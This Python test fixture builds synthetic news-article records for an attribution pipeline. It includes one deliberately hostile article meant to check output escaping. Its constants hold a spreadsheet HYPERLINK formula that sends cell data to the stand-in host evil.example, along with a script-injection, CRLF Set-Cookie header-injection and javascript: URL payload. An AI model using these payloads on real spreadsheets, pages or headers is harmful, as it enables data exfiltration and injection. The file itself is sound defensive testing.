"""A real record of a few dozen articles, written by hand and with other names."""

from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Final

from onrecord.pipeline import open_book
from onrecord.schema.annotation import AttributionSpans
from onrecord.schema.article import Article, Detail, PublicationDate
from onrecord.schema.happenings import Happenings
from onrecord.schema.record import ArticleRecord
from tests.interfaces.fake_desk import FakeReader
from tests.interfaces.newsroom import TEXT, bridge_record, make_article, span
from tests.interfaces.newsroom_happenings import harbour_record

ARTICLES: Final = 12
# What a spreadsheet would run, and what would leave a cell, an element or a header.
FORMULA: Final = '=HYPERLINK("https://evil.example/?"&A1,"open")'
EVIL: Final = "x</title><script>alert(1)</script>]]>&\x1b[31m\u202e\r\nSet-Cookie: a=b"


class TextReader(FakeReader):
    """Finds the statements of the bridge article in its very text, and nothing in others."""

    def read(
        self,
        article: Article | str,
        *,
        published: str | None = None,
        attributions: Sequence[AttributionSpans] | None = None,
    ) -> ArticleRecord:
        if isinstance(article, str):
            article = make_article(article)
        if article.text == TEXT:
            return super().read(article)
        return ArticleRecord(article, (), (), (), (), (), self.model)


def make_record(path: Path) -> None:
    """Write the record."""
    with open_book(path) as book:
        for record in _records():
            book.add(record)


def _records() -> Iterator[ArticleRecord]:
    yield bridge_record()
    yield harbour_record()
    yield _hostile()
    for number in range(ARTICLES):
        yield _numbered(number)


def _numbered(number: int) -> ArticleRecord:
    name = f"news-{number:02}"
    record = harbour_record(name)
    happenings = record.happenings
    day = PublicationDate(f"2026-{number % 12 + 1:02}-{number % 28 + 1:02}", "json-ld")
    article = replace(
        record.article,
        published=day,
        publisher=Detail(("Port Meridian Courier", "Bay Signal")[number % 2], "opengraph"),
        url=Detail(f"https://courier.example/{name}", "canonical"),
    )
    return replace(
        record,
        article=article,
        statements=tuple(replace(one, id=f"{one.id}-{number}") for one in record.statements),
        happenings=Happenings(
            encounters=tuple(replace(o, id=f"{o.id}-{number}") for o in happenings.encounters),
            actions=tuple(replace(one, id=f"{one.id}-{number}") for one in happenings.actions),
            commitments=tuple(
                replace(one, id=f"{one.id}-{number}", statement=f"s-survey-{number}")
                for one in happenings.commitments
            ),
            absences=tuple(replace(one, id=f"{one.id}-{number}") for one in happenings.absences),
            relations=tuple(replace(one, id=f"{one.id}-{number}") for one in happenings.relations),
        ),
    )


def _hostile() -> ArticleRecord:
    """Return a record of an article that says what would harm where it is taken at its word."""
    record = bridge_record()
    text = f"{FORMULA}\n\n“{FORMULA},” said Renata Calloway.\n\n{EVIL}"
    article = make_article(
        text,
        "hostile",
        title=Detail(EVIL, "json-ld"),
        publisher=Detail(FORMULA, "opengraph"),
        url=Detail("javascript:alert(1)", "canonical"),
        published=PublicationDate("2026-03-01", "json-ld"),
    )
    said = span(article, f"“{FORMULA},”")
    statement = replace(
        record.statements[0],
        id="s-hostile",
        source=span(article, "Renata Calloway"),
        cue=span(article, "said"),
        content=(span(article, FORMULA),),
        quoted=(span(article, FORMULA, after="“"),),
        channel=None,
        said_on=None,
    )
    assert said
    return replace(
        record,
        article=article,
        entities=(replace(record.entities[0], roles=()),),
        mentions=(),
        statements=(replace(statement, content=(said,)),),
        dates=(),
        headings=(),
    )
